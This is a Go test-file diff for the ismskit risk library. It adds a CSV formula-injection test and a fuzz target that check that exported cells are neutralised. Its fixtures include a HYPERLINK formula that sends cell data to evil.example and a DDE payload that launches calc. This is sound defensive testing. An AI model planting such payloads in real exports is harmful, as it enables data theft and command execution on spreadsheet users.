@@ -1,6 +1,7 @@
 package risk
 
 import (
+	"math"
 	"strings"
 	"testing"
 
@@ -8,6 +9,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/ismskit/ismskit"
+	"github.com/ismskit/ismskit/internal/table"
 	"github.com/ismskit/ismskit/iso27002"
 )
 
@@ -169,4 +171,70 @@ func TestCSVColumnsIsACopy(t *testing.T) {
 	assert.Equal(t, "id", c[0])
 	c[0] = "x"
 	assert.Equal(t, "id", CSVColumns()[0])
+}
+
+// CSV formula injection (issue 20): no cell of EncodeCSV's output begins
+// with a character that makes a spreadsheet run it, and DecodeCSV still
+// reads the library's own output back exactly.
+func TestCSVFormulaInjection(t *testing.T) {
+	rs := []Risk{{
+		ID:           "=1+1",
+		Title:        `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+		Description:  "+cmd|' /C calc'!A0",
+		Owner:        "@SUM(A1:A9)",
+		BusinessUnit: "\t=1",
+		Assets:       []string{"-x", "y"},
+		Likelihood:   -1,
+		Treatment:    Treatment{Option: Share, SharedWith: "\r=2", Rationale: "'quoted'"},
+		Scoring:      &ScoreRecord{Method: "'=x", Version: "''", Vector: "\x00=3", Score: -2.5, Severity: "-"},
+	}, {ID: "R-2", Title: "plain", Owner: "'o"}}
+	data, err := EncodeCSV(rs)
+	require.NoError(t, err)
+	requireNoLiveFormula(t, data)
+	assert.Contains(t, string(data), `'=1+1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
+	back, err := DecodeCSV(data)
+	require.NoError(t, err)
+	assert.Equal(t, rs, back)
+
+	// a hand-written cell with an apostrophe before ordinary text is kept
+	got, err := DecodeCSV([]byte("id,title\nR-1,'quoted'\n"))
+	require.NoError(t, err)
+	assert.Equal(t, "'quoted'", got[0].Title)
+}
+
+// requireNoLiveFormula fails if a data cell of the CSV begins with a
+// character that makes a spreadsheet read it as a formula.
+func requireNoLiveFormula(t *testing.T, data []byte) {
+	t.Helper()
+	recs, err := table.ReadCSV(data)
+	require.NoError(t, err)
+	for i, rec := range recs {
+		for j, c := range rec {
+			if c != "" && strings.ContainsRune("=+-@\t\r\x00", rune(c[0])) {
+				t.Fatalf("record %d, cell %d begins with %q: %q", i, j, c[0], c)
+			}
+		}
+	}
+}
+
+// FuzzEncodeCSV writes risks whose text fields hold any string, checks
+// that no cell is a live formula, and reads them back.
+func FuzzEncodeCSV(f *testing.F) {
+	f.Add("R-1", "title", "owner", "desc", 3, 9.5)
+	f.Add("=1", "+2", "-3", "@4", -1, -1.5)
+	f.Add("'", "''=", "\t", "\r\n", 0, 0.0)
+	f.Fuzz(func(t *testing.T, id, title, owner, desc string, likelihood int, score float64) {
+		if math.IsNaN(score) || math.IsInf(score, 0) {
+			return
+		}
+		rs := []Risk{{ID: id, Title: title, Owner: owner, Description: desc, BusinessUnit: title,
+			Likelihood: likelihood, Treatment: Treatment{Rationale: desc, SharedWith: owner},
+			Scoring: &ScoreRecord{Method: id, Version: owner, Vector: title, Score: score, Severity: desc}}}
+		data, err := EncodeCSV(rs)
+		require.NoError(t, err)
+		requireNoLiveFormula(t, data)
+		back, err := DecodeCSV(data)
+		require.NoError(t, err, "%q", data)
+		require.Equal(t, rs, back)
+	})
 }
